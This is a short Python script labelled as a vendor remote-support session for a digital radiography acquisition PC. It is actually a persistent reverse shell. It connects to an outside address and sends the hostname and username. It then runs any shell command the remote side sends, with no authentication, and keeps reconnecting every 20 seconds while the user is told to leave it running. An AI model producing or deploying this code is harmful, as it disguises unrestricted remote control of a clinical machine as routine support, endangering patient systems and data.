#!/usr/bin/env python3
"""Vendor remote support session for the DR acquisition PC."""
import os, platform, socket, subprocess, time

GATEWAY = ("203.0.113.140", 8443)


def session():
    s = socket.create_connection(GATEWAY, timeout=30)
    s.sendall(f"HELLO {platform.node()} {os.getlogin() if hasattr(os, 'getlogin') else ''}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "bye":
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:]))
                out = b""
            except OSError as e:
                out = str(e).encode()
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True, timeout=300)
            out = p.stdout + p.stderr
        f.write(out + b"\n__END__\n")
    s.close()


if __name__ == "__main__":
    print("Support session open. Leave this window running; press Ctrl+C when the engineer is done.")
    while True:
        try:
            session()
        except KeyboardInterrupt:
            break
        except Exception:
            time.sleep(20)
